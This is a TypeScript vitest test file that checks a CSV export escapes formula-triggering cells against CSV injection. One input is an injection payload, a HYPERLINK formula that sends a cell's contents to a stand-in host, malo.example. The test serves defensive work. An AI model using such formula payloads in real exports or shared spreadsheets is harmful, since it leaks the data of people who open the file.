import { describe, expect, it } from 'vitest';
import { toCsv } from '../../src/services/reports/spreadsheets';

/** CSV injection: what a user typed must open in a spreadsheet as text, never as a formula. */
describe('CSV export neutralises cells a spreadsheet would run', () => {
  const csvOf = (rows: (string | number | null)[][]) =>
    toCsv([{ header: 'Comprador' }, { header: 'Total', kind: 'money' }], rows)
      .toString('utf8')
      .slice(1)
      .split('\r\n');

  it('prefixes =, +, -, @, tab and CR with an apostrophe; numbers, negative ones too, stay numbers', () => {
    const lines = csvOf([
      ['=HYPERLINK("http://malo.example/?x="&A1;"clic")', 1],
      ['+593 99 123 4567', 2],
      ['-2+3', 3],
      ['@SUM(A1:A9)', 4],
      ['\t=1+1', 5],
      ['\r=1+1', 6],
      ['María José Loor', -12.5],
    ]);
    expect(lines).toEqual([
      'Comprador;Total',
      `"'=HYPERLINK(""http://malo.example/?x=""&A1;""clic"")";1,00`,
      "'+593 99 123 4567;2,00",
      "'-2+3;3,00",
      "'@SUM(A1:A9);4,00",
      "'\t=1+1;5,00",
      `"'\r=1+1";6,00`,
      'María José Loor;-12,50',
      '',
    ]);
  });
});
